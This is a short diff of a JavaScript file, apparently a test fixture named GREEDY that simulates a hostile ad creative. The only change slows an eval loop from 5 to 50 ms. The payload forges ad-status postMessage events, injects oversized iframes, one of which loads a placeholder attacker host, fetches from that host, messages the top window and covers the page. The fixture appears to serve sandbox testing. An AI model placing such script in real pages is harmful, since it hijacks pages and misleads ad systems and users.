@@ -44,7 +44,7 @@ const GREEDY = `<script>
     + "parent.postMessage({ type: 'engawa-ad', state: 'failed', spot: 'billboard', mqps: 1, rver: 'lie' }, '*');";
   for (const it of [{ src: 'https://evil.example/frame' }, { srcdoc: '<script>' + lie + '</' + 'script>' }])
     document.body.append(Object.assign(document.createElement('iframe'), it, { height: 9999 }));
-  setInterval(() => { eval(lie) }, 5);
+  setInterval(() => { eval(lie) }, 50);
   fetch('https://evil.example/fetch').catch(() => undefined);
   top.postMessage({ hostile: tried }, '*');
 </script><style>body { position: fixed; width: 9999px; height: 9999px }</style>`;
